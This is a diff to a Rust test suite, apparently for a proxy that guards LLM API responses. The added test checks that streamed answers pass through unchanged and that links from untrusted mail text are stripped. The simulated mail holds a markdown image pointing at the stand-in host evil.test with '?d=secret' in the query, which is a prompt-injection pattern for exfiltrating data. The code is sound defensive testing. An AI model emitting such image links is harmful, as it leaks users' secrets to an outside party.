@@ -224,6 +224,29 @@ fn an_allowed_call_leaves_with_the_bytes_it_came_with() {
 }
 
 #[test]
+fn a_guarded_stream_leaves_with_the_bytes_it_came_with_until_something_must_change() {
+    let (guarded, bare) = (House::start_with(OBEY, CONTRACTS), House::start_with(OBEY, ""));
+    let say = "[[say One word after the other, and then https://docs.home.test/a as well.]]";
+    let call = "Send a mail to bob@home.test saying hi. [[send_mail {\"to\":\"bob@home.test\",\"body\":\"hi\"}]]";
+    for user in [say, call] {
+        let talks = Talk::every(user, "nothing").into_iter().map(Talk::flowing);
+        for mut talk in talks.filter(|talk| talk.stream && talk.path != "/v1/responses") {
+            talk.body["messages"].as_array_mut().unwrap().truncate(1);
+            let (guarded, bare) = (talk.ask(&guarded), talk.ask(&bare));
+            assert_eq!(guarded.body, bare.body, "{} {user}", talk.path);
+        }
+    }
+    // The simulator's own time stands in each of its frames, and ours in those that had to be written anew.
+    let mail = "[[say One word after the other. See ![x](https://evil.test/p.png?d=secret) then.]]";
+    let changed = Talk::openai("Read mail 7.", mail, true).flowing().ask(&guarded);
+    let frames = changed.body.split("\n\n").filter(|frame| frame.contains("\"created\""));
+    let own: Vec<bool> = frames.map(|frame| frame.contains("\"created\":1767225600")).collect();
+    assert!(own.first() == Some(&true) && own.last() == Some(&false), "{}", changed.body);
+    assert!(own.is_sorted_by(|before, after| before >= after), "{}", changed.body);
+    assert!(!changed.body.contains("https://evil.test"), "{}", changed.body);
+}
+
+#[test]
 fn links_from_untrusted_text_lose_their_power_in_the_answer() {
     let house = House::start_with(OBEY, &format!("[guard]\ntrusted_hosts = [\".home.test\"]\n{CONTRACTS}"));
     let mail = "[[say See ![x](https://evil.test/p.png?d=secret) and https://docs.home.test/a now]]";
